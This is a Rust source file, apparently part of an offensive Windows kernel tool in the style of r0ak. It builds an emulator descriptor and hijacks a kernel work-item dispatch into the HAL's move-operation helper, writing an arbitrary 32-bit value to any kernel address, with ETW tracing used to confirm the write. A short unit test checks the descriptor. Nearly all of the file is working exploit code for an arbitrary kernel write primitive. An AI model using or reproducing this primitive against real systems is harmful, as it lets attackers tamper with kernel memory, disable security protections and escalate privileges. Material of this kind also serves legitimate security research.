use crate::data::{XM_CONTEXT, XM_LONG_DATA};
#[cfg(windows)]
use crate::error::R0akError;

/// Builds the descriptor that makes the HAL emulator helper store `value`
/// at `address` when invoked as a worker routine with the descriptor as its
/// only argument.
pub fn build_move_context(address: u64, value: u32) -> XM_CONTEXT {
    let mut context: XM_CONTEXT = unsafe { core::mem::zeroed() };
    context.SourceValue = value;
    context.DataType = XM_LONG_DATA;
    context.DestinationPointer = address;
    context
}

/// Writes a 32-bit value to a kernel address through one hijacked dispatch.
///
/// Does not return when completion cannot be confirmed: a queued work item
/// may still hold pointers into this process, so the process parks itself
/// instead. The backing allocation is released only on definite outcomes.
#[cfg(windows)]
pub fn write_kernel(
    exec: &mut crate::exec::KernelExecute,
    routines: &crate::sym::KernelRoutines,
    address: u64,
    value: u32,
) -> Result<(), R0akError> {
    use crate::etw::EtwSession;
    use crate::pool::KernelAlloc;
    use crate::util::halt_indeterminate;

    println!("[+] Writing 0x{value:08X} to                                0x{address:016X}");

    let mut allocation = KernelAlloc::new(core::mem::size_of::<XM_CONTEXT>() as u32)
        .inspect_err(|_| println!("[-] Failed to allocate memory for XM_CONTEXT"))?;
    let context = build_move_context(address, value);
    let bytes = unsafe {
        core::slice::from_raw_parts(
            (&context as *const XM_CONTEXT).cast::<u8>(),
            core::mem::size_of::<XM_CONTEXT>(),
        )
    };
    allocation.buffer_mut().copy_from_slice(bytes);

    // The emulator helper receives the kernel copy as its work parameter
    let kernel_context = allocation
        .commit()
        .inspect_err(|_| println!("[-] Failed to find kernel memory for XM_CONTEXT"))?;

    exec.set_callback(routines.xm_mov_op, kernel_context)
        .inspect_err(|_| println!("[-] Failed to initialize work item!"))?;

    let session = EtwSession::start(routines.xm_mov_op)
        .inspect_err(|_| println!("[-] Failed to start ETW trace"))?;

    if let Err(error) = exec.run() {
        println!("[-] Failed to execute kernel function!");
        session.stop();
        return Err(error);
    }

    if !session.join() {
        println!("[-] Failed to parse ETW trace");
        // The write may still be in flight; never free the context under it
        core::mem::forget(allocation);
        halt_indeterminate();
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn move_context_describes_a_long_store() {
        let context = build_move_context(0xFFFF_F800_DEAD_0000, 0x1234_5678);
        assert_eq!(context.DestinationPointer, 0xFFFF_F800_DEAD_0000);
        assert_eq!(context.SourceValue, 0x1234_5678);
        assert_eq!(context.DataType, XM_LONG_DATA);
        // Untouched operands stay zero so only the long store happens
        assert_eq!(context.SourcePointer, 0);
        assert_eq!(context.DestinationValue, 0);
        assert_eq!(context.CurrentOpcode, 0);
    }
}
